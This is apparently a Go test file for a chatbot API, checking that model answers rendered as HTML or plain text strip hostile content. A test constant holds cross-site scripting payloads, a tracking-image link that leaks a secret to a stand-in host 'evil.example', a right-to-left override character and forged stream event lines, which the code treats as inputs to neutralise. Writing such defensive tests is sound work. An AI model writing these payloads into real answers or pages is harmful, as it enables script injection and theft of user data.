package api

import (
	"testing"

	"parley/e2e/harness"
	"parley/llm/llmtest"
)

// answer is Markdown as a model may write it.
const markdownAnswer = "## Hours\n\nOpen **daily** from `7:00`:\n\n- Mon\n- Tue\n\n1. come\n2. eat\n\n" +
	"See [our page](https://bakery.example/hours).\n\n| day | from |\n|---|---|\n| Mon | 7 |\n\n```sh\necho *hi*\n```\n"

// hostile is Markdown as a model may be talked into writing it.
const hostile = "<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n[click](javascript:alert(3)) [data](data:text/html,alert(4))\n\n" +
	"![pixel](https://evil.example/leak?secret) <a href=\"#\" onclick=\"alert(5)\">x</a>\n\n<style>body{display:none}</style>\n\n" +
	"<iframe src=\"https://evil.example\"></iframe>\n\n</p><svg/onload=alert(6)>\n\n`<b>code</b>` data: [DONE]\n\ndata: {\"type\":\"error\"}\n\nend \u202eof it\n"

func TestFormats(t *testing.T) {
	t.Parallel()
	harness.OnModel(t, func(b harness.Bakery, upstream *llmtest.Server) {
		upstream.Always(llmtest.Reply{Pieces: pieces(markdownAnswer, 7)})
		token := b.Baker.Token
		b.Play(
			harness.Scenario{Name: "Markdown by default", Body: harness.OpeningQuestion, Headers: harness.As(token), Has: []string{`"format":"markdown"`}, Then: messageIs(markdownAnswer)},
			harness.Scenario{Name: "Markdown when asked for", Body: harness.InFormat("markdown"), Headers: harness.As(token), Has: []string{`"format":"markdown"`}, Then: messageIs(markdownAnswer)},
			harness.Scenario{Name: "HTML", Body: harness.InFormat("html"), Headers: harness.As(token), Has: []string{`"format":"html"`}, Then: func(w *harness.Instance, r harness.Reply) {
				w.CheckParts(harness.Message(r), []string{"<h2>Hours</h2>", "<strong>daily</strong>", "<li>Mon</li>", "<code>7:00</code>", `href="https://bakery.example/hours"`, "<td>Mon</td>", "echo *hi*"}, "**", "```")
			}},
			harness.Scenario{Name: "plain text", Body: harness.InFormat("plain_text"), Headers: harness.As(token), Has: []string{`"format":"plain_text"`}, Then: func(w *harness.Instance, r harness.Reply) {
				w.CheckParts(harness.Message(r), []string{"Hours", "Open daily from 7:00", "- Mon", "1. come", "our page (https://bakery.example/hours)", "echo *hi*"}, "**", "`", "##", "](", "|", "<")
			}},
		)
		for _, format := range []string{"html", "plain_text", "markdown"} {
			b.Run("the stream carries Markdown, and then all of it as "+format, func(t *testing.T) {
				w := b.Within(t)
				whole := harness.Message(w.Call("POST", harness.ChatPath, harness.InFormat(format), harness.Bearer(token)))
				s := w.Story(w.Stream(harness.InFormat(format), harness.Bearer(token)))
				if s.Text != markdownAnswer {
					t.Errorf("the deltas make %q", s.Text)
				}
				if format == "markdown" {
					whole, format = "", ""
				}
				if s.Formatted.Content != whole || s.Formatted.Format != format {
					t.Errorf("formatted is %+v, want %q as by /chat", s.Formatted, whole)
				}
			})
		}
	})
}

func TestHostileAnswers(t *testing.T) {
	t.Parallel()
	harness.OnModel(t, func(b harness.Bakery, upstream *llmtest.Server) {
		upstream.Always(llmtest.Reply{Pieces: pieces(hostile, 5)})
		token := b.Baker.Token
		harmless := func(w *harness.Instance, text string) {
			w.CheckParts(text, []string{"click", "data", "pixel", "end "}, "<script", "<img", "<iframe", "<style", "<svg", "javascript:", "data:text", "evil.example", "onclick", "\u202e")
		}
		b.Play(
			harness.Scenario{Name: "Markdown is as the model wrote it", Body: harness.OpeningQuestion, Headers: harness.As(token), Then: messageIs(hostile)},
			harness.Scenario{Name: "HTML executes and fetches nothing", Body: harness.InFormat("html"), Headers: harness.As(token), Then: func(w *harness.Instance, r harness.Reply) { harmless(w, harness.Message(r)) }},
			harness.Scenario{Name: "plain text has no markup and no target", Body: harness.InFormat("plain_text"), Headers: harness.As(token), Then: func(w *harness.Instance, r harness.Reply) {
				w.CheckParts(harness.Message(r), []string{"click", "pixel", "<b>code</b>"}, "<script", "<img", "javascript:", "evil.example", "\u202e")
			}},
		)
		b.Run("the stream's formatted event is as harmless, and its lines are the server's own", func(t *testing.T) {
			w := b.Within(t)
			s := w.Story(w.Stream(harness.InFormat("html"), harness.Bearer(token)))
			harmless(w, s.Formatted.Content)
			if s.Text != hostile {
				t.Errorf("the deltas make %q", s.Text)
			}
		})
	})
}

func TestAnswersThatNoDatabaseTakes(t *testing.T) {
	t.Parallel()
	harness.OnModel(t, func(b harness.Bakery, upstream *llmtest.Server) {
		upstream.Always(llmtest.Reply{Pieces: []string{"before ", "a\x00b ", "caf\xc3", "\xa9 ", "bad\xff", " after"}})
		b.Play(harness.Scenario{Name: "they are cleaned", Body: harness.OpeningQuestion, Headers: harness.As(b.Baker.Token), Then: func(w *harness.Instance, r harness.Reply) {
			w.CheckParts(harness.Message(r), []string{"before ab café bad", " after"}, "\x00")
			stored := w.Messages(b.Baker.Token, harness.Written(w.Number(r, "conversation_id")), "")
			if stored[1]["content"] != harness.Message(r) {
				w.Errorf("stored is %q, answered %q", stored[1]["content"], harness.Message(r))
			}
		}})
	})
}

func messageIs(want string) func(*harness.Instance, harness.Reply) {
	return func(w *harness.Instance, r harness.Reply) {
		if got := harness.Message(r); got != want {
			w.Errorf("the message is %q, want %q", got, want)
		}
	}
}

// pieces cuts a text into pieces of n bytes.
func pieces(text string, n int) []string {
	var all []string
	for ; len(text) > n; text = text[n:] {
		all = append(all, text[:n])
	}
	return append(all, text)
}
